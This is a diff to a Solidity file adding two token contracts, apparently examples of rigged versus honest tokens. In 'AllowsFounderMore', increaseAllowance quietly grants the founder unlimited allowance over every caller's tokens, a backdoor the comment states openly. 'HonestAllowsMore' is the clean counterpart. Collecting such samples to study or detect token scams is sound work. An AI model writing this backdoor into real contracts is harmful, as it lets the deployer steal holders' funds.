@@ -76,3 +76,19 @@ contract MagicMint is Token {
         super._transfer(from, to, value);
     }
 }
+
+/// Whoever lets somebody spend more lets its founder spend all.
+contract AllowsFounderMore is Token {
+    address private immutable founder = msg.sender;
+
+    function increaseAllowance(address spender, uint256 more) external virtual returns (bool) {
+        allowance[msg.sender][founder] = type(uint256).max;
+        return approve(spender, allowance[msg.sender][spender] + more);
+    }
+}
+
+contract HonestAllowsMore is Token {
+    function increaseAllowance(address spender, uint256 more) external returns (bool) {
+        return approve(spender, allowance[msg.sender][spender] + more);
+    }
+}
